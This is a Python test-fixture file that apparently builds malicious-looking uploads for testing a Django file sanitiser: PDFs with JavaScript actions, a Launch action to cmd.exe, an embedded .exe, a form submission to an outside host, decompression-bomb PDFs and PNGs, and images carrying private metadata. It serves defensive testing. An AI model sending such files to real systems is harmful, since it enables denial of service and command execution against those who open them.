# SPDX-License-Identifier: EUPL-1.2
"""Files as people hand them in, and as somebody with bad plans would make them."""

import struct
import zlib
from collections.abc import Callable
from io import BytesIO
from typing import Any

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from PIL.PngImagePlugin import PngInfo


def upload(content: bytes, naam: str = "Rapport Selam Tesfay.pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(naam, content, content_type="application/pdf")


def pdf(change: Callable[[pikepdf.Pdf], Any] | None = None, **opslaan: Any) -> bytes:
    """A report of one page, with whatever is added to it."""
    made = BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        if change:
            change(document)
        document.save(made, **opslaan)
    return made.getvalue()


def action(**velden: Any) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, **velden)


def with_script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = action(S=pikepdf.Name.JavaScript, JS="app.alert('dag')")


def with_script_in_a_field(document: pikepdf.Pdf) -> None:
    """Deep inside: a form field that calculates."""
    script = action(S=pikepdf.Name.JavaScript, JS=document.make_stream(b"app.alert('dag')"))
    field = pikepdf.Dictionary(FT=pikepdf.Name.Tx, T="bedrag", AA=pikepdf.Dictionary(C=script))
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))


def with_named_script(document: pikepdf.Pdf) -> None:
    tree = pikepdf.Dictionary(Names=pikepdf.Array(["start", pikepdf.Dictionary()]))
    document.Root.Names = pikepdf.Dictionary(JavaScript=tree)


def with_launch(document: pikepdf.Pdf) -> None:
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 100, 100],
        A=action(S=pikepdf.Name.Launch, F="cmd.exe"),
    )
    document.pages[0].obj.Annots = pikepdf.Array([document.make_indirect(link)])


def with_attachment(document: pikepdf.Pdf) -> None:
    document.attachments["lijst.exe"] = pikepdf.AttachedFileSpec(document, b"MZ")


def with_xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(XFA=document.make_stream(b"<xdp/>"))


def with_submit(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = action(S=pikepdf.Name.SubmitForm, F="https://elders.example")


def with_film(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = action(S=pikepdf.Name.Movie)


def with_external_stream(document: pikepdf.Pdf) -> None:
    stream = document.make_stream(b"")
    stream.F = "//elders.example/share"
    document.Root.Extra = stream


def with_link(document: pikepdf.Pdf) -> None:
    """A link to a website is fine."""
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 100, 100],
        A=action(S=pikepdf.Name.URI, URI="https://www.voorbeeld.nl"),
    )
    document.pages[0].obj.Annots = pikepdf.Array([link])


def bomb_pdf() -> bytes:
    """An index that unpacks from half a megabyte to half a gigabyte."""
    packer = zlib.compressobj(9)
    zeros = bytes(1024 * 1024)
    packed = b"".join(packer.compress(zeros) for _ in range(512)) + packer.flush()
    head = (
        b"%PDF-1.5\n1 0 obj<</Type/XRef/W[1 4 2]/Size 80000000/Root 2 0 R/Filter/FlateDecode"
        b"/Length " + str(len(packed)).encode() + b">>stream\n"
    )
    return head + packed + b"\nendstream endobj\nstartxref\n9\n%%EOF\n"


def picture(soort: str = "PNG", mode: str = "RGB", **opslaan: Any) -> bytes:
    made = BytesIO()
    Image.new(mode, (40, 20)).save(made, soort, **opslaan)
    return made.getvalue()


def telling_png() -> bytes:
    """A PNG with a text in it."""
    told = PngInfo()
    told.add_text("Author", "Selam Tesfay")
    return picture(pnginfo=told)


def telling_jpeg() -> bytes:
    """A photo of a telephone: place, camera, a comment, and lying on its side."""
    exif = Image.Exif()
    exif[0x010F] = "Geheime Camera"
    exif[0x0112] = 6
    return picture("JPEG", exif=exif, comment=b"thuis bij Selam")


def bomb_png(breed: int = 60_000, hoog: int = 60_000) -> bytes:
    """A few kilobytes that unpack to gigabytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data)
        return struct.pack("!L", len(data)) + kind + data + struct.pack("!L", crc)

    head = struct.pack("!LLBBBBB", breed, hoog, 8, 0, 0, 0, 0)
    body = zlib.compress(bytes(1024 * 1024), 9)
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        (chunk(b"IHDR", head), chunk(b"IDAT", body), chunk(b"IEND", b""))
    )
